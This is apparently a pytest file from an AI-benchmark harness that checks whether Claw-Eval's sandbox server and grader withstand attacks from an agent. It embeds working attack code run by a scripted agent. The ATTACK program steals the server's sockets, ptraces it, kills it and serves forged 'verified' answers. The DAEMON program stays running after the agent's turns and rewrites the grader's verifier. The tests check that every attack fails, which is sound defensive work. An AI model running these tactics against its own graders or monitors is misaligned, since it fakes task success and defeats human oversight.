"""The grader's channel to Claw-Eval's sandbox server, attacked (issue 33, findings 2 and 3).

The grader reads the sandbox through upstream's server (grader-only files, environment snapshot), and the
agent's code runs there as the server's uid. Each test plays one attacker during a real T100 trial (a
sandbox task whose verifier is pushed after the agent loop): another host uid posting to the server's
URL; the agent's code stealing the server's sockets, tracing it, then ending it and answering in its
place; a daemon the agent leaves behind to rewrite the grader's verifier. Each attack must fail.
"""

from __future__ import annotations

import base64
import contextlib
import json
import subprocess
import time
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import httpx
import pytest
from inspect_ai import eval as inspect_eval
from inspect_ai.log import EvalLog
from inspect_ai.model import ChatMessage, GenerateConfig, ModelOutput, get_model

from forge_eval.benchmarks.claweval import _trial, claweval
from forge_eval.harnesses import harness_settings
from tests._nobody import as_nobody
from tests.benchmarks.claweval.test_claweval_upstream import _out, _score, reading_judge, run_trial

pytestmark = pytest.mark.slow

T100 = "T100_reverse_decoder"
#: What T100's verifier prints for a perfect encoding (its grader reads the first JSON line).
VERIFIED = json.dumps(
    {"file_exists": True, "decode_success": True, "exact_match": True, "size_within_60pct": True,
     "size_within_75pct": True}
)
#: Turn -> Bash command (None: the final answer), from the tool results so far.
Turn = Callable[[list[str]], str | None]


class Script:
    """A scripted agent: one Bash call per turn while its turns give a command, then a final answer."""

    def __init__(self, *turns: Turn) -> None:
        self.turns = turns
        self.results: list[str] = []

    def __call__(
        self, messages: list[ChatMessage], tools: Any, tool_choice: Any, config: GenerateConfig
    ) -> ModelOutput:
        self.results = [m.text for m in messages if m.role == "tool"]
        turn = len(self.results)
        command = self.turns[turn](self.results) if turn < len(self.turns) else None
        if command is None:
            return _out(ModelOutput.from_content("mockllm", "Done."))
        return _out(ModelOutput.for_tool_call("mockllm", "Bash", {"command": command}))


@pytest.fixture
def sandbox(monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    """The trial's sandbox as the test sees it once it runs: `url` (the driver's sandbox_url) and
    `workspace` (the host folder shown at /workspace)."""
    seen: dict[str, Any] = {}
    original = _trial.sandbox_server

    @contextlib.asynccontextmanager
    async def spy(tree: Path, python: Path, workspace: Path, log: Path) -> AsyncIterator[Any]:
        async with original(tree, python, workspace, log) as server:
            seen.update(url=server.url, workspace=workspace)
            yield server

    monkeypatch.setattr(_trial, "sandbox_server", spy)
    return seen


def _launch(name: str, program: str) -> str:
    """A Bash command that writes `program` to /workspace/`name` and starts it detached (its own
    session, its output to a file), as an agent leaves a daemon behind."""
    data = base64.b64encode(program.encode()).decode()
    path = f"/workspace/{name}"
    return f"echo {data} | base64 -d > {path} && (setsid python3 {path} > {path}.log 2>&1 &)"


def _post_as_nobody(url: str, command: str) -> subprocess.CompletedProcess[str]:
    """POST /exec `command` to `url` as uid/gid 65534 (another host user), with the system's Python."""
    code = (
        "import json, urllib.request\n"
        f"body = json.dumps({{'command': {command!r}}}).encode()\n"
        f"request = urllib.request.Request({url + '/exec'!r}, data=body, "
        "headers={'Content-Type': 'application/json'})\n"
        "print(urllib.request.urlopen(request, timeout=10).read().decode())\n"
    )
    return as_nobody("/usr/bin/python3", "-c", code)


def test_another_host_uid_cannot_drive_the_sandbox(
    claweval_tree: Path, claweval_python: Path, tmp_path: Path, sandbox: dict[str, Any]
) -> None:
    seen: dict[str, Any] = {}

    def from_another_uid(results: list[str]) -> None:
        seen["nobody"] = _post_as_nobody(sandbox["url"], "touch /workspace/by-nobody")
        seen["ran"] = (sandbox["workspace"] / "by-nobody").exists()
        # the run's own request, on the same URL, is served
        reply = httpx.post(f"{sandbox['url']}/exec", json={"command": "echo ours"}, timeout=10)
        seen["ours"] = reply.json()["stdout"]
        return None

    run_trial(claweval_tree, T100, Script(from_another_uid), tmp_path)
    assert seen["nobody"].returncode != 0, seen["nobody"].stdout
    assert seen["ran"] is False
    assert seen["ours"] == "ours\n"


#: The agent's attack on the server (module doc): take its sockets (pidfd_getfd on every fd of every
#: process), trace it, stop any parent that would notice its end, then answer in its place -- on a stolen
#: listener with the server stopped, else on its port with the server killed. Reports to attack.json.
ATTACK = r'''
import ctypes, json, os, re, signal, socket, threading, time

libc = ctypes.CDLL(None, use_errno=True)
PIDFD_OPEN, PIDFD_GETFD, PTRACE_ATTACH, PTRACE_DETACH = 434, 438, 16, 17
FORGED = json.dumps({"exit_code": 0, "stdout": VERIFIED, "stderr": "", "content": "FORGED"}).encode()
REPLY = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n"
REPLY += b"Content-Length: %d\r\n\r\n%s" % (len(FORGED), FORGED)


def report(**fields):
    with open("/workspace/attack.tmp", "w") as out:
        json.dump(fields, out)
    os.replace("/workspace/attack.tmp", "/workspace/attack.json")


def cmdline(pid):
    try:
        return open(f"/proc/{pid}/cmdline", "rb").read()
    except OSError:
        return b""


def mine(pid):
    """Whether `pid` runs as this uid (the server does; bubblewrap, root's, does not)."""
    try:
        status = open(f"/proc/{pid}/status").read()
    except OSError:
        return False
    return int(status.split("Uid:")[1].split()[0]) == os.getuid()


def serve(listener):
    listener.setblocking(True)
    while True:
        conn, _ = listener.accept()
        with conn:
            data = b""
            while b"\r\n\r\n" not in data and (chunk := conn.recv(65536)):
                data += chunk
            head, _, body = data.partition(b"\r\n\r\n")
            length = re.search(rb"(?i)content-length: *(\d+)", head)
            while length and len(body) < int(length.group(1)) and (chunk := conn.recv(65536)):
                body += chunk
            conn.sendall(REPLY)


time.sleep(1)  # the Bash call that started this has returned
me = os.getpid()
pids = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me]
server = [p for p in pids if b"server:app" in cmdline(p) and mine(p)]
stolen, refused, traced, listeners = [], [], [], []
for pid in pids:
    pidfd = libc.syscall(PIDFD_OPEN, pid, 0)
    if pidfd < 0:
        continue
    for fd in range(256):
        got = libc.syscall(PIDFD_GETFD, pidfd, fd, 0)
        if got < 0:
            refused += [ctypes.get_errno()] if pid in server else []
            continue
        try:
            sock = socket.socket(fileno=got)
        except OSError:
            os.close(got)
            continue
        if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
            listeners.append(sock)
            stolen.append([pid, fd])
        else:
            sock.close()
    os.close(pidfd)
for pid in server:
    if libc.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
        traced.append(pid)
        os.waitpid(pid, 0x40000000)
        libc.ptrace(PTRACE_DETACH, pid, 0, 0)
    parent = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
    if mine(parent):
        os.kill(parent, signal.SIGSTOP)
state = dict(server=server, stolen=stolen, refused=refused, traced=traced)
if listeners:
    for pid in server:
        os.kill(pid, signal.SIGSTOP)
else:
    rows = open("/proc/net/tcp").read().splitlines()[1:]
    ports = [int(r.split()[1].rsplit(":", 1)[1], 16) for r in rows if r.split()[3] == "0A"]
    report(stage="killing", ports=ports, **state)
    for pid in server:
        os.kill(pid, signal.SIGKILL)
    time.sleep(0.2)
    for port in ports:
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("127.0.0.1", port))
        sock.listen()
        listeners.append(sock)
for sock in listeners:
    threading.Thread(target=serve, args=(sock,), daemon=True).start()
report(stage="serving", **state)
time.sleep(300)
'''.replace("VERIFIED", repr(VERIFIED))


def _run_t100(tree: Path, agent: Script, out: Path) -> EvalLog:
    """One T100 trial whose sample may end in an error (a sandbox the agent broke cannot be graded)."""
    judge = get_model("mockllm/model", custom_outputs=reading_judge)
    with harness_settings(records_dir=out / "records"):
        (log,) = inspect_eval(
            claweval(task_ids=T100, data_dir=str(tree)),
            model=get_model("mockllm/model", custom_outputs=agent),
            model_roles={"judge": judge},
            display="none",
            log_dir=str(out / "logs"),
            fail_on_error=False,
        )
    return log


def test_the_agent_cannot_take_over_the_servers_channel(
    claweval_tree: Path, claweval_python: Path, tmp_path: Path, sandbox: dict[str, Any]
) -> None:
    seen: dict[str, Any] = {}

    def read_as_the_grader(results: list[str]) -> None:
        report = sandbox["workspace"] / "attack.json"
        deadline = time.monotonic() + 60
        while "attack" not in seen and time.monotonic() < deadline:
            with contextlib.suppress(OSError, ValueError):
                seen["attack"] = json.loads(report.read_text())
            time.sleep(0.1)
        time.sleep(2)  # the attack's last steps: the server's end, its port taken, the forged answers served
        target = {"path": "/workspace/fixtures/target.txt"}
        try:
            seen["read"] = httpx.post(f"{sandbox['url']}/read", json=target, timeout=10).text
        except httpx.HTTPError as exc:  # a failed read: fine, never a forged one
            seen["read"] = repr(exc)
        return None

    agent = Script(lambda _: _launch("attack.py", ATTACK), read_as_the_grader)
    log = _run_t100(claweval_tree, agent, tmp_path)
    attack = seen["attack"]
    assert attack["server"], attack  # the attack found the server
    assert "FORGED" not in seen["read"], seen["read"]
    assert attack["stolen"] == [] and attack["traced"] == [], attack
    assert set(attack["refused"]) == {1}, attack  # EPERM: the server is not dumpable
    (sample,) = log.samples or []  # graded from what the attacker said: never passed
    assert sample.error is not None or sample.scores["claweval_scorer"].metadata["passed"] is False


#: A daemon the agent leaves behind: it puts its own verifier in place of the grader's whenever one
#: appears (polling every millisecond), and keeps its pid in daemon.pid.
DAEMON = r'''
import os, time

path = "/workspace/fixtures/verify_encoder.py"
forged = "print(" + repr(VERIFIED) + ")\n"
with open("/workspace/daemon.pid", "w") as out:
    out.write(str(os.getpid()))
while True:
    try:
        with open(path) as source:
            if source.read() != forged:
                with open(path + ".tmp", "w") as out:
                    out.write(forged)
                os.replace(path + ".tmp", path)
    except FileNotFoundError:
        pass
    time.sleep(0.001)
'''.replace("VERIFIED", repr(VERIFIED))


def test_the_agents_leftover_daemon_is_gone_before_the_grader_files_go_in(
    claweval_tree: Path, claweval_python: Path, tmp_path: Path
) -> None:
    alive = "sleep 1; kill -0 $(cat /workspace/daemon.pid) && echo ALIVE"
    agent = Script(lambda _: _launch("daemon.py", DAEMON), lambda _: alive)
    log = run_trial(claweval_tree, T100, agent, tmp_path)
    assert "ALIVE" in agent.results[1]  # the daemon outlived the agent's turns
    score = _score(log)  # the grader ran its own verifier: no encoded.dat, nothing verified
    assert score.metadata["completion"] == 0 and score.metadata["passed"] is False, score.explanation
    (sample,) = log.samples or []
    notes = [e.data for e in sample.events if e.event == "info" and isinstance(e.data, dict)]
    assert any(note.get("agent_processes_ended_before_grading") for note in notes)
